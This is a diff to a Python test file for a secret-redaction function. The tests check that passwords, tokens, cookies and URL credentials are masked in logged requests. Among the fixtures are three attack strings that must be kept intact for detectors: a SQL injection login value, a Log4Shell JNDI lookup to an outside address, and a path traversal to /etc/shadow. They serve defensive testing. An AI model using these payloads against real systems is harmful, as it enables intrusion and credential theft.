@@ -7,6 +7,8 @@ import time
 from typing import TYPE_CHECKING
 
 import polars as pl
+import pyarrow as pa
+import pyarrow.compute as pc
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -86,20 +88,52 @@ def test_refused_input_is_kept_without_passwords(memory_store: Store, tmp_path: 
     [
         ('{"a":{"password" : "x\\"y","b":1}}', '{"a":{"password" : "(hidden)","b":1}}'),
         ('{"http.password":123,"b":1}', '{"http.password":"(hidden)","b":1}'),
+        ('{"flags":{"password":true}}', '{"flags":{"password":true}}'),
+        ('{"command":"PASS","args":["x"]}', '{"command":"PASS","args":["(hidden)"]}'),
+        ('{"name":"Cookie","value":"a=b"}', '{"name":"Cookie","value":"(hidden)"}'),
+        ('{"h":"/?pwd=x\\"y&b=1"}', '{"h":"/?pwd=(hidden)&b=1"}'),
+        ('{"p":"USER a\\r\\nPASS x\\r\\nQUIT"}', '{"p":"USER a\\r\\nPASS (hidden)\\r\\nQUIT"}'),
+        ('{"p":"Authorization: Basic x","b":1}', '{"p":"Authorization: Basic (hidden)","b":1}'),
         ("Authorization: Basic abc=\r\nHost: x", "Authorization: Basic (hidden)\r\nHost: x"),
         ("/a?pwd=x&b=1", "/a?pwd=(hidden)&b=1"),
+        ("/a?b=1#access_token=x", "/a?b=1#access_token=(hidden)"),
+        ("/go?next=%2Fin%3Fuser%3Da%26token%3Dx%26b%3D1",
+         "/go?next=%2Fin%3Fuser%3Da%26token%3D(hidden)%26b%3D1"),
+        ("http://anna:x@nas/f?t=1", "http://anna:(hidden)@nas/f?t=1"),
+        ("/cgi?loginuse=admin&loginpas=x", "/cgi?loginuse=admin&loginpas=(hidden)"),
+        ("/?q=token+ring&page=2", "/?q=token+ring&page=2"),
         ("the password is not said", "the password is not said"),
         ("https://a.example:443/x", "https://a.example:443/x"),
         ('{"compass":"north","bypass=1":2}', '{"compass":"north","bypass=1":2}'),
+        # what is no password but an attack stays: detectors read it
+        ("/login?pwd=%27+or+%271%27=%271", "/login?pwd=%27+or+%271%27=%271"),
+        ("/?token=${jndi:ldap://203.0.113.9/a}", "/?token=${jndi:ldap://203.0.113.9/a}"),
+        ("/f?password=../../../../etc/shadow", "/f?password=../../../../etc/shadow"),
     ],
-)
+)  # fmt: skip
 def test_what_is_hidden_and_what_stays(text: str, without: str) -> None:
     assert secrets.hide(text) == without
-    if secrets._SIGNS.search(text):
-        series = pl.Series([text])
-        for pattern, instead in secrets.PATTERNS:
-            series = series.str.replace_all(pattern, instead)
-        assert series[0] == without  # the two engines agree
+    assert secrets.hide(without) == without
+    if text.startswith("{"):
+        json.loads(without)
+
+
+NAMES = (
+    "password", "PASSWD", "user_pass", "pwd", "token", "id_token", "apiKey", "api-key", "secret",
+    "client_secret", "sig", "X-Amz-Signature", "X-Amz-Credential", "_sid", "sessionid", "PHPSESSID",
+    "wpa_key", "wpapsk", "psk", "auth", "authorization", "auth_key", "otp", "pin", "jwt", "pw",
+    "psw", "j_password", "kennwort", "passwort", "SynoToken", "community",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_names_of_keys_in_addresses(name: str) -> None:
+    urls = [f"/a?b=1&{name}={WORD}", f"/a?{name}={WORD}&b=1", f"/a?u=%2F%3F{name}%3D{WORD}"]
+    for url in urls:
+        assert WORD not in secrets.hide(url)
+    # the quick look sees them in each of the engines that take it
+    assert pl.Series(urls).str.contains(secrets.SIGNS).all()
+    assert pc.all(pc.match_substring_regex(pa.array(urls), secrets.SIGNS)).as_py()
 
 
 @given(st.binary(max_size=300))
